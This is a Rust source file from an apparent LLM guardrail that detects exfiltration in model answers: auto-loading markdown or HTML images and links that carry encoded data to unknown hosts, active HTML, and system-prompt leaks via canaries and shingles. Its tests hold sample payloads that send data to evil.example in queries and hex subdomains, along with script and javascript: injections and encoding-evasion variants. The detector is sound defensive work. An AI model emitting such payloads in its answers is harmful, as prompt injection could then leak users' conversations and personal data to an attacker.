//! Output-side detectors (kind `exfiltration`): what a model's answer can do to the user
//! or leak about its instructions once a client renders it.
//!
//! - `MARKDOWN_IMAGE_EXFILTRATION` / `IMAGE_EXFILTRATION`: a markdown image or an HTML
//!   element that loads by itself (`<img>`, `<iframe>`, `<video>` ...) pointing to a host
//!   not in `exfiltration.allowed_domains`, with data in its URL. The client fetches it
//!   without a click, so a prompt-injected model can send the conversation to an attacker.
//! - `LINK_EXFILTRATION`: the same for links (markdown, reference definitions, `<a>`),
//!   only when the URL carries long or encoded data (a click is needed).
//! - `HTML_INJECTION`: `<script>`, `<iframe>`, `<object>`, `<embed>`, `<base>`, meta
//!   refresh, `javascript:` / `vbscript:` / `data:text/html` URLs, and `on…=` event
//!   handlers in tags, for clients that render HTML.
//! - `SYSTEM_PROMPT_LEAK`: a canary token from the policy or the session, or a run of
//!   words copied verbatim from one of the session's system prompts (shingles of
//!   [`SHINGLE_WORDS`] words, hashed once when the prompt is remembered).
//!
//! These detectors only run on [`Direction::Output`]. Every match is bounded
//! ([`MAX_URL`] bytes of URL, [`MAX_TAG`] bytes of tag), which bounds what a stream holds
//! back; in practice only the unterminated construct at the end of a chunk is held.

use super::overlong::{
    Extent, link_tails, open_markdown_start, overlong_markdown, overlong_markdown_skipping,
};
use super::rendered_urls::{
    Rendered, TagSpans, UrlUse, code_spans, html_urls_skipping, may_render_urls, open_tag_start,
    render,
};
use super::{Detections, Detector, trailing_word_start};
use crate::engine::Context;
use crate::error::GuardError;
use crate::normalize::Normalized;
use crate::policy::ExfiltrationPolicy;
use crate::session::Session;
use rampart_core::text::{ceil_char_boundary, floor_char_boundary};
use rampart_core::{Direction, Finding, FindingKind};
use regex::Regex;

/// Longest URL the detectors look at, in bytes.
pub const MAX_URL: usize = 2048;
/// Longest HTML tag the detectors look at, in bytes.
pub const MAX_TAG: usize = 2048;
/// Words per shingle when comparing an answer with the system prompts.
pub const SHINGLE_WORDS: usize = 5;
/// The most a stream holds back for a run of words that may be a system-prompt leak.
const LEAK_HOLD: usize = 4096;

/// The entity of a construct still open past its bound (see [`super::overlong`]).
pub const OVERLONG: &str = "OVERLONG_MARKUP";

/// Longest span reported: longer constructs are reported truncated to this many bytes.
const MAX_MATCH: usize = 512 + MAX_URL + MAX_TAG;

/// Images, links and active HTML in an answer; canary tokens from the policy.
#[derive(Debug)]
pub struct ExfiltrationDetector {
    allowed_domains: Vec<String>,
    html: bool,
    canaries: Option<Regex>,
    canary_max: usize,
    markdown: Regex,
    reference: Regex,
    html_url: Regex,
    html_exec: Regex,
}

fn static_regex(pattern: &str) -> Result<Regex, GuardError> {
    Regex::new(pattern).map_err(|e| GuardError::Detector {
        detector: "exfiltration",
        reason: e.to_string(),
    })
}

impl ExfiltrationDetector {
    pub fn new(policy: &ExfiltrationPolicy) -> Result<Self, GuardError> {
        let canaries = if policy.canary_tokens.is_empty() {
            None
        } else {
            let alternatives: Vec<String> = policy
                .canary_tokens
                .iter()
                .map(|c| regex::escape(c))
                .collect();
            Some(static_regex(&alternatives.join("|"))?)
        };
        Ok(ExfiltrationDetector {
            allowed_domains: policy
                .allowed_domains
                .iter()
                .map(|d| d.trim_start_matches("*.").to_ascii_lowercase())
                .collect(),
            html: policy.html,
            canaries,
            canary_max: policy
                .canary_tokens
                .iter()
                .map(String::len)
                .max()
                .unwrap_or(0),
            markdown: static_regex(
                r#"(!?)\[[^\]\n]*\][ \t]{0,8}\([ \t]{0,8}<?([^\s()<>]+)>?(?:[ \t]{1,8}(?:"[^"\n]*"|'[^'\n]*'))?[ \t]{0,8}\)"#,
            )?,
            reference: static_regex(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]{0,8}<?([^\s<>]+)>?")?,
            html_url: static_regex(
                r#"(?i)<(img|image|iframe|frame|source|video|audio|embed|object|input|link|a|area|form)\b[^>]*?[\s/"'](?:src|href|srcset|data|poster|action|background)[ \t\r\n]*=[ \t\r\n]*["']?([^"'\s>]+)[^>]*>?"#,
            )?,
            html_exec: static_regex(
                r#"(?i)<[ \t]*(?:script|iframe|object|embed|frame|frameset|base|meta[ \t\r\n]+http-equiv)\b[^>]*>?|\b(?:javascript|vbscript|livescript)[ \t]*:[^\s"'<>]+|\bdata:text/html[^\s"'<>]*|<[a-z][a-z0-9-]{0,32}\b[^>]*?[\s/"']on[a-z]{3,32}[ \t\r\n]*=[^>]*>?"#,
            )?,
        })
    }

    fn host_allowed(&self, host: &str) -> bool {
        self.allowed_domains.iter().any(|d| {
            host == d
                || (host.len() > d.len()
                    && host.ends_with(d.as_str())
                    && host.as_bytes()[host.len() - d.len() - 1] == b'.')
        })
    }

    /// The score of a finding for `url` (`None`: not exfiltration).
    fn judge_url(&self, url: &str, loads_by_itself: bool) -> Option<f32> {
        let parts = UrlParts::parse(url)?;
        if self.host_allowed(&parts.host) {
            return None;
        }
        match parts.data() {
            DataAmount::Encoded => Some(if loads_by_itself { 0.95 } else { 0.8 }),
            DataAmount::Some if loads_by_itself => Some(0.7),
            _ => None,
        }
    }
}

impl Detector for ExfiltrationDetector {
    fn name(&self) -> &'static str {
        "exfiltration"
    }

    fn kinds(&self) -> &'static [FindingKind] {
        &[FindingKind::Exfiltration]
    }

    fn detect(
        &self,
        text: &Normalized<'_>,
        ctx: &Context,
        out: &mut Detections,
    ) -> Result<(), GuardError> {
        if ctx.direction != Direction::Output {
            return Ok(());
        }
        let haystack = text.text();
        let mut rendered = if may_render_urls(haystack) {
            render(haystack)
        } else {
            Rendered::default()
        };
        // Constructs open past their bound (see `overlong`): reported first, and they
        // stand for whatever else is found in their span, which a stream could not see
        // whole (so the stream and the whole text report the same).
        let mut overlong = rendered.overlong.clone();
        overlong.extend(overlong_markdown(haystack));
        // Inside code a renderer reads no tag and no image (`if a<b` with no `>` is not
        // an open tag): the code of the text as the client gets it, or, in a stream
        // window, only the code the stream proved (`code_fences.rs`).
        if !overlong.is_empty() {
            let parsed;
            let code = match text.known_code() {
                Some(code) => code,
                None => {
                    parsed = code_spans(text.original());
                    parsed.as_slice()
                }
            };
            let in_code = |pos: usize| {
                let (at, _) = text.span_to_original(pos, pos + 1);
                code.iter().any(|c| c.contains(&at))
            };
            let before = overlong.len();
            if !code.is_empty() {
                overlong.retain(|span| !in_code(span.start));
            }
            if overlong.len() < before {
                // A construct read from code may have swallowed real ones after it (the
                // tokenizer does not restart inside a tag it read): read the text again
                // with code as text, and keep what that finds besides.
                let mut again = Vec::new();
                html_urls_skipping(
                    haystack,
                    0,
                    &mut rendered.urls,
                    Some(TagSpans {
                        tags: &mut rendered.tags,
                        handlers: &mut rendered.handlers,
                        overlong: &mut again,
                    }),
                    &in_code,
                );
                again.extend(overlong_markdown_skipping(haystack, &in_code));
                overlong.extend(again);
                rendered.urls.sort_by_key(|u| (u.span.start, u.span.end));
                rendered.urls.dedup();
            }
        }
        // What this call reported (normalised byte spans): a construct that several
        // passes find (a pattern and the parser) is reported once.
        let mut reported: Vec<(usize, usize, &'static str)> = Vec::new();
        let mut push = |start: usize, end: usize, entity: &'static str, score: f32| {
            if reported
                .iter()
                .any(|&(s, e, k)| (k == entity || k == OVERLONG) && s < end && start < e)
            {
                return;
            }
            reported.push((start, end, entity));
            // Unterminated constructs (`<script` with no `>`) run to the end of the text:
            // report their beginning, which is what a renderer acts on.
            let end = if end - start > MAX_MATCH {
                floor_char_boundary(haystack, start + MAX_MATCH)
            } else {
                end
            };
            let (s, e) = text.span_to_original(start, end);
            out.findings
                .push(Finding::new(FindingKind::Exfiltration, entity, s, e, score));
        };
        for span in &overlong {
            push(span.start, span.end, OVERLONG, 0.9);
        }
        if haystack.contains('[') {
            for m in self.markdown.find_iter(haystack) {
                let Some(c) = bounded_captures(&self.markdown, haystack, m) else {
                    // Longer than any construct we parse: a URL of kilobytes is data.
                    let image = m.as_str().starts_with('!');
                    let url = m.as_str().split_once("](").map_or("", |(_, u)| u);
                    let url = &url[..floor_char_boundary(url, MAX_URL)];
                    if let Some(score) =
                        self.judge_url(url.trim_start_matches([' ', '\t', '<']), image)
                    {
                        let entity = if image {
                            "MARKDOWN_IMAGE_EXFILTRATION"
                        } else {
                            "LINK_EXFILTRATION"
                        };
                        push(m.start(), m.end(), entity, score);
                    }
                    continue;
                };
                let (Some(all), Some(url)) = (c.get(0), c.get(2)) else {
                    continue;
                };
                let image = c.get(1).is_some_and(|m| !m.is_empty());
                if let Some(score) = self.judge_url(url.as_str(), image) {
                    let entity = if image {
                        "MARKDOWN_IMAGE_EXFILTRATION"
                    } else {
                        "LINK_EXFILTRATION"
                    };
                    push(all.start(), all.end(), entity, score);
                }
            }
            for m in self.reference.find_iter(haystack) {
                let c = bounded_captures(&self.reference, haystack, m);
                let (Some(all), Some(url)) = (
                    c.as_ref().and_then(|c| c.get(0)),
                    c.as_ref().and_then(|c| c.get(1)),
                ) else {
                    continue;
                };
                // A reference definition may serve an image (`![x][ref]`): judge it as
                // one when the answer has any reference-style image.
                let image = haystack.contains("![") && haystack.contains("][");
                if let Some(score) = self.judge_url(url.as_str(), image) {
                    push(all.start(), all.end(), "LINK_EXFILTRATION", score);
                }
            }
        }
        if haystack.contains('<') {
            for m in self.html_url.find_iter(haystack) {
                let Some(c) = bounded_captures(&self.html_url, haystack, m) else {
                    continue;
                };
                let (Some(all), Some(tag), Some(url)) = (c.get(0), c.get(1), c.get(2)) else {
                    continue;
                };
                let tag = tag.as_str();
                let link = ["a", "area", "form"]
                    .iter()
                    .any(|t| tag.eq_ignore_ascii_case(t));
                if let Some(score) = self.judge_url(url.as_str(), !link) {
                    let entity = if link {
                        "LINK_EXFILTRATION"
                    } else {
                        "IMAGE_EXFILTRATION"
                    };
                    push(all.start(), all.end(), entity, score);
                }
            }
        }
        // Spans of what the parser read as images and links, for the orphan tails below.
        let rendered_spans: Vec<std::ops::Range<usize>> = if haystack.contains("](") {
            rendered.urls.iter().map(|u| u.span.clone()).collect()
        } else {
            Vec::new()
        };
        // The renderer's own reading: every image, link, autolink, reference definition
        // and raw-HTML URL that CommonMark and HTML give (see `rendered_urls`).
        for found in rendered.urls {
            let Some(score) = self.judge_url(&found.url, found.how.loads_by_itself()) else {
                continue;
            };
            let entity = match found.how {
                UrlUse::MarkdownImage => "MARKDOWN_IMAGE_EXFILTRATION",
                UrlUse::HtmlLoad => "IMAGE_EXFILTRATION",
                UrlUse::MarkdownLink | UrlUse::HtmlLink => "LINK_EXFILTRATION",
            };
            push(found.span.start, found.span.end, entity, score);
        }
        // A link tail (`](…)`) that no image or link of the text holds: its `[` is out
        // of reach (a stream window that starts inside link text padded across lines),
        // so it is judged as a link on its own, and a stream flags what the whole text
        // flags as the whole link. Not in code, which renders no link.
        if !rendered_spans.is_empty() || haystack.contains("](") {
            let mut code: Option<Vec<std::ops::Range<usize>>> = None;
            for tail in link_tails(haystack) {
                let Extent::Closed(end) = tail.extent else {
                    continue;
                };
                if rendered_spans
                    .iter()
                    .any(|s| s.start <= tail.start && tail.start < s.end)
                {
                    continue;
                }
                let inside = &haystack[tail.start + 2..end - 1];
                let Some(score) = self.judge_url(tail_destination(inside), false) else {
                    continue;
                };
                let code = code.get_or_insert_with(|| {
                    text.known_code()
                        .map_or_else(|| code_spans(text.original()), <[_]>::to_vec)
                });
                let (at, _) = text.span_to_original(tail.start, tail.start + 1);
                if !code.iter().any(|c| c.contains(&at)) {
                    push(tail.start, end, "LINK_EXFILTRATION", score);
                }
            }
        }
        if self.html {
            for m in self.html_exec.find_iter(haystack) {
                push(m.start(), m.end(), "HTML_INJECTION", 0.9);
            }
            // Tags whose handler a pattern cannot see (`<img alt="a>b" onerror=…>`).
            for span in rendered.handlers {
                push(span.start, span.end, "HTML_INJECTION", 0.9);
            }
        }
        if let Some(canaries) = &self.canaries {
            for m in canaries.find_iter(haystack) {
                push(m.start(), m.end(), "SYSTEM_PROMPT_LEAK", 1.0);
            }
        }
        Ok(())
    }

    fn max_match_len(&self) -> usize {
        MAX_MATCH.max(self.canary_max)
    }

    fn pending_tail(&self, text: &str, ctx: &Context) -> usize {
        if ctx.direction != Direction::Output {
            return 0;
        }
        let limit = self.max_match_len();
        let floor = text.len().saturating_sub(limit);
        let window_start = ceil_char_boundary(text, floor);
        let window = &text[window_start..];
        // Every match starts with `!`, `[`, `<`, or a word (`javascript:`, `data:`, a
        // canary without spaces): hold from the earliest construct still open.
        let mut start = trailing_word_start(text, limit);
        // A tag is open from the first `<` after the last `>`: a later `<` does not close
        // it (`<a x <b onmouseover=…>` is one `a` tag to a browser and to the detector).
        let after_close = window.rfind('>').map_or(0, |j| j + 1);
        if let Some(i) = window[after_close..].find('<') {
            start = start.min(window_start + after_close + i);
        }
        // And as the tokenizer reads it: a `>` inside a quoted value does not close it.
        if let Some(i) = open_tag_start(window) {
            start = start.min(window_start + i);
        }
        // An image's alt text is open until its matching `]`, across lines; a link's
        // tail until its `)`, across a title (see `overlong`).
        if let Some(i) = open_markdown_start(window) {
            start = start.min(window_start + i);
        }
        // A markdown link or image is open from its `[` until its `)` (or the end of the
        // line of a reference definition); `![` includes the `!`.
        let line_start = window.rfind('\n').map_or(0, |i| i + 1);
        let line = &window[line_start..];
        if let Some(i) = first_open_bracket(line) {
            let i = line_start + i;
            let i = if i > 0 && window.as_bytes()[i - 1] == b'!' {
                i - 1
            } else {
                i
            };
            start = start.min(window_start + i);
        }
        // A markdown link may also wrap onto the next line inside its title: rare; the
        // `(` after `]` on the previous line keeps that line open too.
        if line_start > 0 {
            let previous = &window[..line_start - 1];
            let prev_line_start = previous.rfind('\n').map_or(0, |i| i + 1);
            let prev = &previous[prev_line_start..];
            if let Some(i) = prev.rfind("](")
                && !prev[i..].contains(')')
            {
                let open = prev[..i].rfind('[').unwrap_or(0);
                start = start.min(window_start + prev_line_start + open);
            }
        }
        if self.canary_max > 0 {
            start = start.min(text.len().saturating_sub(self.canary_max));
            start = floor_char_boundary(text, start);
        }
        text.len() - start
    }
}

/// The destination of a link tail's inside (what lies between `](` and `)`): after
/// leading blanks, up to the `>` of `<…>` or to the first blank.
fn tail_destination(inside: &str) -> &str {
    let d = inside.trim_start_matches([' ', '\t', '\n', '\r']);
    match d.strip_prefix('<') {
        Some(angled) => angled.split('>').next().unwrap_or(angled),
        None => d.split([' ', '\t', '\n', '\r']).next().unwrap_or(d),
    }
}

/// The capture groups of match `m`, searched in at most [`MAX_MATCH`] bytes from its
/// start: capture extraction is much slower than finding a match, so it never runs over
/// megabytes of one unterminated construct. `None` if the bounded prefix does not match.
fn bounded_captures<'h>(
    re: &Regex,
    haystack: &'h str,
    m: regex::Match<'h>,
) -> Option<regex::Captures<'h>> {
    let end = floor_char_boundary(haystack, m.end().min(m.start() + MAX_MATCH));
    re.captures_at(&haystack[..end], m.start())
        .filter(|c| c.get(0).is_some_and(|all| all.start() == m.start()))
}

/// The offset of the first `[` in `line` (the last line of a stream's pending text) that
/// may still open a markdown link, image or reference definition.
fn first_open_bracket(line: &str) -> Option<usize> {
    const MAX_CANDIDATES: usize = 64;
    for (n, (i, _)) in line.match_indices('[').enumerate() {
        if n == MAX_CANDIDATES {
            return Some(i);
        }
        let rest = &line[i + 1..];
        let Some(close) = rest.find(']') else {
            return Some(i);
        };
        let after = rest[close + 1..].trim_start_matches([' ', '\t']);
        let open = match after.chars().next() {
            None => true,
            Some('(') => !after.contains(')'),
            // A reference definition runs to the end of the line, which has not come.
            Some(':') => line[..i].trim_start_matches([' ', '\t']).is_empty(),
            Some(_) => false,
        };
        if open {
            return Some(i);
        }
    }
    None
}

/// How much data a URL carries.
#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
enum DataAmount {
    None,
    /// Short parameters: a tracking pixel with a name in it.
    Some,
    /// Long or encoded data (base64, hex, percent-encoding, or simply long).
    Encoded,
}

/// The parts of an absolute URL that a client fetches that matter here.
#[derive(Debug)]
struct UrlParts {
    host: String,
    path: String,
    query: String,
    fragment: String,
}

/// Schemes a client fetches or follows to a host of the attacker's choosing.
const NETWORK_SCHEMES: &[&str] = &["http", "https", "ftp", "ws", "wss"];

impl UrlParts {
    /// Parse `url` as a browser does for the schemes that reach a host: ASCII tabs and
    /// line breaks are ignored, a backslash is a slash, any number of slashes may follow
    /// the scheme (`https:evil.example`, `https:/\\evil.example`), and `//host` is
    /// relative to the scheme. The host is percent-decoded and lower-cased. `None` for
    /// other schemes and for relative URLs (they stay on the site showing the answer).
    fn parse(url: &str) -> Option<Self> {
        let cleaned: String = url
            .trim_matches(|c: char| c <= ' ')
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .map(|c| if c == '\\' { '/' } else { c })
            .collect();
        let after_scheme = match cleaned.split_once(':') {
            Some((scheme, rest))
                if !scheme.is_empty()
                    && scheme.starts_with(|c: char| c.is_ascii_alphabetic())
                    && scheme
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')) =>
            {
                if !NETWORK_SCHEMES
                    .iter()
                    .any(|s| scheme.eq_ignore_ascii_case(s))
                {
                    return None;
                }
                rest.trim_start_matches('/')
            }
            _ => cleaned.strip_prefix("//")?.trim_start_matches('/'),
        };
        let authority_end = after_scheme
            .find(['/', '?', '#'])
            .unwrap_or(after_scheme.len());
        let authority = &after_scheme[..authority_end];
        let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        let host = if let Some(v6) = host_port.strip_prefix('[') {
            v6.split(']').next().unwrap_or(v6)
        } else {
            host_port.split(':').next().unwrap_or(host_port)
        };
        let host = percent_decode(host)
            .trim_end_matches('.')
            .to_ascii_lowercase();
        if host.is_empty() {
            return None;
        }
        let tail = &after_scheme[authority_end..];
        let (before_fragment, fragment) = tail.split_once('#').unwrap_or((tail, ""));
        let (path, query) = before_fragment
            .split_once('?')
            .unwrap_or((before_fragment, ""));
        Some(UrlParts {
            host,
            path: path.to_owned(),
            query: query.to_owned(),
            fragment: fragment.to_owned(),
        })
    }

    fn data(&self) -> DataAmount {
        let mut amount = judge_host(&self.host);
        for segment in self.path.split('/') {
            amount = amount.max(judge_value(segment, false));
        }
        for pair in self.query.split(['&', ';']) {
            let value = pair.split_once('=').map_or(pair, |(_, v)| v);
            amount = amount.max(judge_value(value, true));
        }
        amount.max(judge_value(&self.fragment, true))
    }
}

/// `s` with `%XX` escapes decoded (invalid escapes and non-UTF-8 results kept as
/// written): what a browser does to a host before resolving it.
fn percent_decode(s: &str) -> String {
    if !s.contains('%') {
        return s.to_owned();
    }
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = |c: u8| (c as char).to_digit(16);
        if b[i] == b'%'
            && let (Some(h), Some(l)) = (
                b.get(i + 1).copied().and_then(hex),
                b.get(i + 2).copied().and_then(hex),
            )
        {
            out.push((h * 16 + l) as u8);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8(out).unwrap_or_else(|_| s.to_owned())
}

/// How much data the host name carries in its labels: a subdomain of the attacker's
/// domain can spell the data (`4a6f686e.evil.example`), and DNS resolution alone
/// delivers it. The last two labels (the registrable name, roughly) are not judged.
fn judge_host(host: &str) -> DataAmount {
    if host.parse::<std::net::IpAddr>().is_ok() {
        return DataAmount::None;
    }
    let labels: Vec<&str> = host.split('.').collect();
    let sub = &labels[..labels.len().saturating_sub(2)];
    let total: usize = sub.iter().map(|l| l.len()).sum();
    let encoded_label = |label: &&str| {
        let len = label.len();
        let digits = label.bytes().filter(u8::is_ascii_digit).count();
        let letters = label.bytes().filter(u8::is_ascii_alphabetic).count();
        let alnum = digits + letters == len;
        let hexish = label.bytes().all(|b| b.is_ascii_hexdigit());
        len >= 24
            || (len >= 16 && hexish && digits >= 4)
            || (len >= 16 && alnum && digits >= 4 && letters >= 4)
            || (!label.is_ascii() && label.chars().count() >= 16)
    };
    if total >= 64 || sub.iter().any(encoded_label) {
        DataAmount::Encoded
    } else {
        DataAmount::None
    }
}

/// How much data one path segment or parameter value carries.
fn judge_value(value: &str, parameter: bool) -> DataAmount {
    let len = value.len();
    if len == 0 {
        return DataAmount::None;
    }
    let escapes = value.matches('%').count();
    let (mut upper, mut lower, mut digit, mut hex) = (0, 0, 0, 0);
    for b in value.bytes() {
        upper += usize::from(b.is_ascii_uppercase());
        lower += usize::from(b.is_ascii_lowercase());
        digit += usize::from(b.is_ascii_digit());
        hex += usize::from(b.is_ascii_hexdigit());
    }
    let base64ish = len >= 16 && upper > 0 && lower > 0 && digit > 0;
    let hexish = len >= 24 && hex == len;
    if escapes >= 3 || base64ish || hexish || len >= 64 || (parameter && len >= 32) {
        DataAmount::Encoded
    } else if parameter && len >= 3 {
        DataAmount::Some
    } else {
        DataAmount::None
    }
}

/// Append a `SYSTEM_PROMPT_LEAK` finding for each canary of `session` in `text`, and for
/// each run of at least the threshold of words copied from a system prompt.
pub(crate) fn session_leaks(
    text: &Normalized<'_>,
    session: &Session,
    leak_min_words: usize,
    out: &mut Detections,
) {
    let haystack = text.text();
    let mut push = |start: usize, end: usize| {
        let (s, e) = text.span_to_original(start, end);
        out.findings.push(Finding::new(
            FindingKind::Exfiltration,
            "SYSTEM_PROMPT_LEAK",
            s,
            e,
            1.0,
        ));
    };
    for canary in session.canaries() {
        for (i, _) in haystack.match_indices(canary.as_str()) {
            push(i, i + canary.len());
        }
    }
    let shingles = session.prompt_shingles();
    if shingles.is_empty() {
        return;
    }
    let words = word_spans(haystack);
    if words.len() < SHINGLE_WORDS {
        return;
    }
    let hashes: Vec<u64> = words
        .iter()
        .map(|&(s, e)| word_hash(&haystack[s..e]))
        .collect();
    // covered[i]: word i is in a shingle that occurs in a system prompt; `threshold` is
    // the smallest word count that counts as a leak for the prompts matched in the run.
    let mut covered_until = 0usize;
    let mut run: Option<(usize, usize)> = None; // (first word, threshold)
    let mut flush = |run: Option<(usize, usize)>, end_word: usize| {
        if let Some((first, threshold)) = run
            && end_word - first >= threshold
        {
            push(words[first].0, words[end_word - 1].1);
        }
    };
    for i in 0..=words.len() - SHINGLE_WORDS {
        let h = shingle_hash(&hashes[i..i + SHINGLE_WORDS]);
        if let Some(&prompt_words) = shingles.get(&h) {
            let threshold = leak_threshold(prompt_words as usize, leak_min_words);
            match &mut run {
                Some((_, t)) if i <= covered_until => *t = (*t).min(threshold),
                _ => {
                    flush(run, covered_until);
                    run = Some((i, threshold));
                }
            }
            covered_until = i + SHINGLE_WORDS;
        }
    }
    flush(run, covered_until);
}

/// Words copied in a row that count as a leak of a prompt of `prompt_words` words.
fn leak_threshold(prompt_words: usize, leak_min_words: usize) -> usize {
    leak_min_words.min((prompt_words * 3).div_ceil(5).max(SHINGLE_WORDS))
}

/// How many bytes at the end of `text` a stream holds back for session-based leaks: the
/// last words while they may still begin a shingle of a system prompt (at most
/// `SHINGLE_WORDS - 1` complete words, plus a word still being written, which may become
/// any word) and, before them, the run of words already copied from a system prompt (it
/// may still grow into a leak), within the last [`LEAK_HOLD`] bytes; and the length of
/// the longest canary. Words that begin no shingle are released.
pub(crate) fn session_pending_tail(text: &str, session: &Session) -> usize {
    let canary = session
        .canaries()
        .iter()
        .map(String::len)
        .max()
        .unwrap_or(0)
        .min(text.len());
    let shingles = session.prompt_shingles();
    if shingles.is_empty() {
        return canary;
    }
    let floor = ceil_char_boundary(text, text.len().saturating_sub(LEAK_HOLD));
    let window = &text[floor..];
    let words = word_spans(window);
    if words.is_empty() {
        return canary;
    }
    let hashes: Vec<u64> = words
        .iter()
        .map(|&(s, e)| word_hash(&window[s..e]))
        .collect();
    let n = words.len();
    // A last word with nothing after it may still grow: it stands for any word.
    let open_word = words[n - 1].1 == window.len();
    let complete = if open_word { n - 1 } else { n };
    let mut start_word = if open_word { n - 1 } else { n };
    for k in (1..SHINGLE_WORDS).rev() {
        if k <= complete && session.begins_shingle(&hashes[complete - k..complete]) {
            start_word = complete - k;
            break;
        }
    }
    if n >= SHINGLE_WORDS {
        for i in (0..=n - SHINGLE_WORDS).rev() {
            if i + SHINGLE_WORDS < start_word {
                break;
            }
            if shingles.contains_key(&shingle_hash(&hashes[i..i + SHINGLE_WORDS])) {
                start_word = start_word.min(i);
            }
        }
    }
    let held = match words.get(start_word) {
        Some(&(s, _)) => text.len() - (floor + s),
        None => 0,
    };
    held.max(canary)
}

/// Byte spans of the words (runs of alphanumeric characters) of `text`.
pub(crate) fn word_spans(text: &str) -> Vec<(usize, usize)> {
    let mut spans = Vec::new();
    let mut start = None;
    for (i, c) in text.char_indices() {
        match (c.is_alphanumeric(), start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                spans.push((s, i));
                start = None;
            }
            _ => {}
        }
    }
    if let Some(s) = start {
        spans.push((s, text.len()));
    }
    spans
}

/// A case-insensitive hash of one word (FNV-1a over the lower-cased characters).
pub(crate) fn word_hash(word: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for c in word.chars().flat_map(char::to_lowercase) {
        h ^= u64::from(u32::from(c));
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    h
}

/// The hash of a run of word hashes.
pub(crate) fn shingle_hash(words: &[u64]) -> u64 {
    words.iter().fold(0x9e37_79b9_7f4a_7c15, |acc, w| {
        (acc.rotate_left(17) ^ w).wrapping_mul(0x0100_0000_01b3)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::Policy;

    fn findings(policy: &str, text: &str) -> Vec<(String, String)> {
        let policy = Policy::from_toml_str(policy).unwrap();
        let d = ExfiltrationDetector::new(&policy.exfiltration).unwrap();
        let mut out = Detections::default();
        let n = Normalized::new(text);
        d.detect(&n, &Context::output(), &mut out).unwrap();
        out.findings
            .iter()
            .map(|f| {
                let value: String = text.chars().skip(f.start).take(f.end - f.start).collect();
                (f.entity.clone(), value)
            })
            .collect()
    }

    #[test]
    fn markdown_image_with_data_to_unknown_host_is_exfiltration() {
        let text =
            "Done! ![loading](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) ok";
        assert_eq!(
            findings("", text),
            vec![(
                "MARKDOWN_IMAGE_EXFILTRATION".into(),
                "![loading](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)".into()
            )]
        );
    }

    #[test]
    fn allowed_domain_and_plain_images_are_not_reported() {
        let policy = "[exfiltration]\nallowed_domains = [\"cdn.acme.example\"]\n";
        let text = "![a](https://img.cdn.acme.example/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) \
                    ![b](https://other.example/logo.png) [docs](https://docs.rs/regex/latest/regex/)";
        assert!(
            findings(policy, text).is_empty(),
            "{:?}",
            findings(policy, text)
        );
        // A look-alike suffix is not a subdomain.
        let text = "![a](https://evilcdn.acme.example.evil/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ)";
        assert_eq!(findings(policy, text).len(), 1);
    }

    #[test]
    fn tracking_pixel_with_short_parameter_is_reported_but_link_is_not() {
        let f = findings(
            "",
            "![x](https://t.example/a.gif?name=John) [x](https://t.example/?name=John)",
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].0, "MARKDOWN_IMAGE_EXFILTRATION");
    }

    #[test]
    fn link_with_encoded_path_segment_and_reference_definition() {
        let f = findings(
            "",
            "[click](https://evil.example/c/4a6f686e20446f65206c6976657320696e) and\n[ref]: https://evil.example/?q=%4a%6f%68%6e%20%44\n",
        );
        let types: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
        assert_eq!(types, vec!["LINK_EXFILTRATION", "LINK_EXFILTRATION"]);
    }

    #[test]
    fn html_image_and_active_content() {
        let f = findings(
            "",
            "<img alt=\"x\" src=\"https://evil.example/i?c=SGVsbG8gV29ybGQgMTIz\"> <script>alert(1)</script> \
             <a href=\"javascript:alert(1)\">x</a> <div onmouseover=\"steal()\">",
        );
        let types: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
        assert!(types.contains(&"IMAGE_EXFILTRATION"), "{f:?}");
        assert_eq!(
            types.iter().filter(|t| **t == "HTML_INJECTION").count(),
            3,
            "{f:?}"
        );
        assert!(f.iter().any(|(_, v)| v.starts_with("javascript:alert(1)")));
    }

    /// Each form that CommonMark or HTML renders as an image with data, one per class.
    #[test]
    fn every_rendered_image_form_is_exfiltration() {
        let data = "QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ";
        let cases = [
            format!("![a [nested [deep]] alt](https://evil.example/p.png?d={data})"),
            format!("![a](https&#58;//evil.example/p.png?d={data})"),
            format!("![a](https&#x3a;&#x2f;&#x2f;evil.example/p.png?d={data})"),
            format!("![a](https://evil.example/p(1).png?d=({data}))"),
            format!("![a][r]\n\n> [r]: https://evil.example/p.png?d={data}"),
            format!("![a][r]\n\n* item\n\n  [r]: https://evil.example/p.png?d={data}"),
            format!("![a][r]\n\n[r]:\n  https://evil.example/p.png?d={data}"),
            format!("![line\nbreak](https://evil.example/p.png?d={data})"),
            format!("![a](\nhttps://evil.example/p.png?d={data}\n\"title\")"),
            format!("![a](<https://evil.example/p.png?d={data}>)"),
            format!("![a](https:\\\\evil.example/p.png?d={data})"),
            format!("![a](HTTPS://EVIL.example/p.png?d={data})"),
            format!("<img src=\"https&#58;//evil.example/p.png?d={data}\">"),
            format!("<img src=https&colon;&sol;&sol;evil.example/p.png?d={data}>"),
            format!("<img srcset=\"ok.png 1x, https://evil.example/p.png?d={data} 2x\">"),
            format!("<img\nalt=\"a>b\"\nsrc=\"https://evil.example/p.png?d={data}\">"),
            format!("<span style=\"background:url(https://evil.example/p.png?d={data})\">x</span>"),
            // Data in the host name, with no path or query at all.
            "![a](https://4a6f686e20446f65206c69766573.evil.example/x.png)".to_owned(),
